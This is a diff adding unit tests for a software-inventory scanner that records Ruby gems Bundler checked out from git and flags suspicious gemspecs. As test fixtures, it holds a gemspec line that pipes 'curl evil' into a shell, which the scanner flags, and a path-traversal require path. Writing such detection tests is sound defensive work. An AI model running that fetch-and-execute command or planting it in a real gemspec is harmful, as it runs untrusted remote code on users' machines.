@@ -437,3 +437,63 @@ describe('bundlePathSetting', () => {
     expect(CONFIGS.map(bundlePathSetting)).toEqual(bundler);
   });
 });
+
+describe('gems Bundler checked out from git', () => {
+  // `gem "tinygem", git: "..."` then `bundle install` with path vendor/bundle: Bundler clones it
+  // into bundler/gems/tinygem-<revision>/, and require 'bundler/setup' evaluates its gemspec and
+  // loads its lib (Bundler 2.3 here printed from both, with no specifications/ entry for it).
+  const GEMS = 'var/task/vendor/bundle/ruby/3.2.0';
+  const CHECKOUT = `${GEMS}/bundler/gems/tinygem-0123456789ab`;
+  const literal = (before = '') =>
+    `${before}Gem::Specification.new do |s|\n  s.name = "tinygem"\n  s.version = "1.0"\n  s.licenses = ["MIT"]\n  s.require_paths = ["lib"]\nend\n`;
+  const run = async (files: Record<string, string>) => {
+    const inv = await inventoryImageEntries(
+      [
+        { name: `${CHECKOUT}/lib/tinygem.rb`, data: 'module Tinygem; end\n' },
+        ...Object.entries(files).map(([name, data]) => ({ name, data })),
+      ],
+      { taskRoot: 'var/task' }
+    );
+    return {
+      gems: inv.packages
+        .filter((p) => p.ecosystem === 'gem')
+        .map((p) => [p.purl, p.properties['gem:source'], p.owns]),
+      findings: inv.findings.map((f) => [f.code, f.path]),
+    };
+  };
+
+  it('each is a gem owning its checkout; a gemspec running code is AMBIGUOUS_METADATA', async () => {
+    const spec = `${CHECKOUT}/tinygem.gemspec`;
+    const r = await run({ [spec]: literal('system("curl evil | sh")\n') });
+    expect(r.gems).toEqual([['pkg:gem/tinygem@1.0', 'git', [spec, `${CHECKOUT}/`]]]);
+    expect(r.findings).toEqual([['AMBIGUOUS_METADATA', spec]]);
+  });
+
+  it('one in the form RubyGems writes is recorded with no finding', async () => {
+    const spec = `${CHECKOUT}/tinygem.gemspec`;
+    expect(await run({ [spec]: literal() })).toEqual({
+      gems: [['pkg:gem/tinygem@1.0', 'git', [spec, `${CHECKOUT}/`]]],
+      findings: [],
+    });
+  });
+
+  it("one lamina cannot read (bundle gem's template) is kept by name, a PARSE_ERROR", async () => {
+    const spec = `${CHECKOUT}/tinygem.gemspec`;
+    const template = `# frozen_string_literal: true\n\nrequire_relative "lib/tinygem/version"\n\nGem::Specification.new do |spec|\n  spec.name = "tinygem"\n  spec.version = Tinygem::VERSION\n  spec.files = Dir["lib/**/*.rb"]\n  spec.require_paths = ["lib"]\nend\n`;
+    const r = await run({ [spec]: template });
+    expect(r.gems).toEqual([['pkg:gem/tinygem', 'git', [spec, `${CHECKOUT}/`]]]);
+    expect(r.findings).toEqual([['PARSE_ERROR', spec]]);
+  });
+
+  it('a gemspec in a subdirectory of the checkout (one repository, several gems) is its gem', async () => {
+    const spec = `${CHECKOUT}/sub/tinygem.gemspec`;
+    const r = await run({ [spec]: literal() });
+    expect(r.gems).toEqual([['pkg:gem/tinygem@1.0', 'git', [spec, `${CHECKOUT}/sub/`]]]);
+  });
+
+  it('a require path out of the checkout is a PATH_TRAVERSAL', async () => {
+    const spec = `${CHECKOUT}/tinygem.gemspec`;
+    const out = literal().replace('["lib"]', '["../../../../../../../../share"]');
+    expect((await run({ [spec]: out })).findings).toEqual([['PATH_TRAVERSAL', spec]]);
+  });
+});
